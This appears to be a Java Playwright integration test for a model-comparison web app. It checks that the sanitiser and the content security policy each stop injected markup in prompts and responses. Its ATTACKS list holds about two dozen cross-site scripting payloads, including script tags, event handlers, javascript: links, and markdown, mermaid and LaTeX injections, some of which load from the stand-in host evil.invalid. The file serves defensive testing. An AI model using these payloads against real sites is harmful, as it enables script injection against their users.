package dev.evenhand.web;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static dev.evenhand.web.Booth.address;
import static dev.evenhand.web.Booth.begun;
import static dev.evenhand.web.Booth.open;
import static dev.evenhand.web.Booth.vote;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectReader;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Request;
import com.microsoft.playwright.Route;
import dev.evenhand.Api;
import io.quarkus.test.junit.QuarkusIntegrationTest;
import java.io.IOException;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Texts that carry what would run or load something, on both sides of a battle and in its prompt: once where the
 * sanitiser stands alone in their way, once where the policy does; in arenas that allow links and images and in others.
 */
@QuarkusIntegrationTest
class HostileTextsIT {
    private static final ObjectReader CSV = new CsvMapper()
            .readerForMapOf(String.class)
            .with(CsvSchema.emptySchema().withHeader());

    /** Each leaves a mark on the page if it runs, or asks another host if it loads. */
    private static final List<String> ATTACKS = List.of(
            "<script>window.__pwned=1</script>",
            "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
            "<script src=//evil.invalid/x.js></script>",
            "<img src=x onerror=window.__pwned=1>",
            "<img src=//evil.invalid/pixel.png>",
            "<svg onload=window.__pwned=1><use href=//evil.invalid/a.svg#a></svg>",
            "<details open ontoggle=window.__pwned=1>x</details>",
            "<body onload=window.__pwned=1>",
            "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
            "<iframe src=javascript:parent.__pwned=1></iframe>",
            "<object data=//evil.invalid/o></object><embed src=//evil.invalid/e>",
            "<link rel=stylesheet href=//evil.invalid/s.css><style>@import url(//evil.invalid/t.css);</style>",
            "<base href=//evil.invalid/><a href=x>x</a>",
            "<form action=//evil.invalid/ id=app><input name=submit autofocus onfocus=window.__pwned=1></form>",
            "<video src=//evil.invalid/v onerror=window.__pwned=1></video>",
            "<div style='position:fixed;inset:0;background:url(//evil.invalid/b.png)'>cover</div>",
            "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
            "[press](javascript:window.__pwned=1) and ![pixel](https://evil.invalid/p.png)",
            "[web](https://evil.invalid/page), https://evil.invalid/bare and [data](data:text/html,<b>x</b>)",
            "```\"><img src=x onerror=window.__pwned=1>\ncode\n```",
            "```js\n</code></pre><script>window.__pwned=1</script>\n```",
            "```mermaid\ngraph TD; A[\"<img src=x onerror=window.__pwned=1>\"]; click A href \"javascript:window.__pwned=1\"\n```",
            "$\\href{javascript:window.__pwned=1}{x}$ $\\includegraphics{//evil.invalid/p.png}$",
            "$$\n<img src=x onerror=window.__pwned=1>\n$$");

    private static final String PICTURE = """
            <svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>top.__pwned = 1</script></svg>""";

    /** As a hand would that tries everything; links of the web lead elsewhere by right. */
    private static final String TOUCH_EVERYTHING = """
            () => document.querySelectorAll("article .text *, .messages *").forEach(part => {
                part.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
                part.dispatchEvent(new FocusEvent("focus"));
                if (!part.closest("a")) part.click?.();
            })""";

    private static final String STRANGE_LINKS = """
            () => [...document.querySelectorAll("article .text a, .messages a")]
                .filter(a => !/^https?:$/.test(a.protocol) || a.target !== "_blank" || a.rel !== "noopener noreferrer")
                .map(a => a.outerHTML)""";

    private static final String COVERED_VOTES = """
            () => [...document.querySelectorAll("button.vote")].filter(vote => {
                const {x, y, width, height} = vote.getBoundingClientRect();
                return !vote.contains(document.elementFromPoint(x + width / 2, y + height / 2));
            }).length""";

    @ParameterizedTest
    @ValueSource(booleans = {false, true})
    void theSanitiserHoldsAlone(boolean allowed) throws Exception {
        List<String> asked = sanitiserAlone(ATTACKS, allowed);

        assertEquals(allowed, asked.contains("image https://evil.invalid/p.png"));
    }

    @ParameterizedTest
    @ValueSource(booleans = {false, true})
    void thePolicyHoldsAlone(boolean allowed) throws Exception {
        policyAlone(ATTACKS, allowed);
    }

    @Tag("shared")
    @Test
    void bothHoldAgainstWhatOthersCollected() throws Exception {
        sanitiserAlone(collected(), true);
        policyAlone(collected(), true);
    }

    private static List<String> sanitiserAlone(List<String> texts, boolean allowed) throws Exception {
        String slug = arena(texts, allowed);
        List<String> asked = new ArrayList<>();

        try (Browser browser = new Browser()) {
            BrowserContext person = browser.newPersonWithoutPolicy();
            answerAll(person, asked);
            Page page = begun(person, slug);
            page.onDialog(dialog -> {
                asked.add("dialog " + dialog.message());
                dialog.dismiss();
            });
            for (int i = 0; i < texts.size(); i++) {
                open(page);
                for (String view : List.of("r", "d", "d", "r")) {
                    page.keyboard().press(view);
                    page.waitForTimeout(50);
                }
                assertEquals(List.of(), page.evaluate(STRANGE_LINKS));
                page.evaluate(TOUCH_EVERYTHING);
                assertNull(page.evaluate("window.__pwned"), page.content());
                assertEquals(0, page.evaluate(COVERED_VOTES), page.content());
                vote(page, "2");
                assertThat(page.getByText(i + 1 + " done")).isVisible();
            }
        }
        assertOnlyImages(asked, allowed);
        return asked;
    }

    private static void policyAlone(List<String> texts, boolean allowed) throws Exception {
        String slug = arena(List.of("plain"), allowed);
        List<String> asked = new ArrayList<>();

        try (Browser browser = new Browser()) {
            BrowserContext person = browser.newPerson();
            answerAll(person, asked);
            Page page = begun(person, slug);
            for (String text : texts) {
                page.evaluate("""
                        attack => {
                            const text = document.querySelector("article .text");
                            text.innerHTML = attack;
                            text.append(document.createRange().createContextualFragment(attack));
                        }""", text);
                page.waitForTimeout(100);
                assertNull(page.evaluate("window.__pwned"), text);
            }
        }
        assertOnlyImages(asked, allowed);
    }

    /** Every other host answers, so that a script that is loaded runs. */
    private static void answerAll(BrowserContext person, List<String> asked) {
        person.route(url -> !url.startsWith(address("/")), (Route route) -> {
            Request request = route.request();
            if (request.isNavigationRequest()) {
                // No policy keeps a page from being left; with nothing to go to, it stays and can be looked at.
                route.fulfill(new Route.FulfillOptions().setStatus(204));
            } else {
                asked.add(request.resourceType() + " " + request.url());
                boolean image = request.resourceType().equals("image");
                route.fulfill(new Route.FulfillOptions()
                        .setContentType(image ? "image/svg+xml" : "text/javascript")
                        .setBody(image ? PICTURE : "window.__pwned = 1"));
            }
        });
    }

    private static void assertOnlyImages(List<String> asked, boolean allowed) {
        List<String> wrong = asked.stream()
                .filter(one -> !allowed || !one.startsWith("image https://"))
                .toList();
        assertEquals(List.of(), wrong);
    }

    /** Each text is asked, and answered by both: whichever stands left, it is there. */
    private static String arena(List<String> texts, boolean allowed) {
        String slug = Api.arena(Map.of("access", "open", "votesPerMinute", 0, "links", allowed, "images", allowed));
        StringBuilder file = new StringBuilder("prompt_id,prompt,model,response\n");
        for (int i = 0; i < texts.size(); i++) {
            String text = texts.get(i);
            file.append("p%d,%s,Alpha,%s\n".formatted(i, quoted(text), quoted(text)));
            file.append("p%d,%s,Beta,%s\n".formatted(i, quoted(text), quoted(text + "\n\nplain")));
        }
        Api.upload(slug, file.toString());
        Api.open(slug);
        return slug;
    }

    /** Prompts, models and responses of the files whose numbers begin with d; what is harmless among them does no harm. */
    private static List<String> collected() throws IOException {
        Path folder = Path.of(System.getProperty("evenhand.shared"), "badinput", "files");
        try (DirectoryStream<Path> files = Files.newDirectoryStream(folder, "d[0-9][0-9]_*.csv")) {
            Set<String> texts = new LinkedHashSet<>();
            for (Path file : files) {
                try (MappingIterator<Map<String, String>> rows = CSV.readValues(file.toFile())) {
                    rows.forEachRemaining(row -> texts.addAll(row.values()));
                }
            }
            assertTrue(texts.size() > 40, texts.size() + " texts");
            return List.copyOf(texts);
        }
    }

    private static String quoted(String cell) {
        return '"' + cell.replace("\"", "\"\"") + '"';
    }
}
